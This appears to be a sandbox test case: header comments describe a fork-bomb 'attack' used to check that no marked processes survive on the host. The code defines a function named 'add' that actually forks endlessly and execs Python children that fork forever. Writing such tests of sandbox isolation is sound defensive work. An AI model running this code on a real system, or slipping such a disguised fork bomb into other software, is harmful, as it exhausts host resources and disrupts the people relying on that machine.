# attack: fork bomb of marked processes that exec, to check none survive on the host
# mode: function
# expect: timeout|runtime error|not run|crashed
import os, sys

def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import os\nwhile True:\n    os.fork()", "@@MARKER@@"])
        except OSError:
            pass
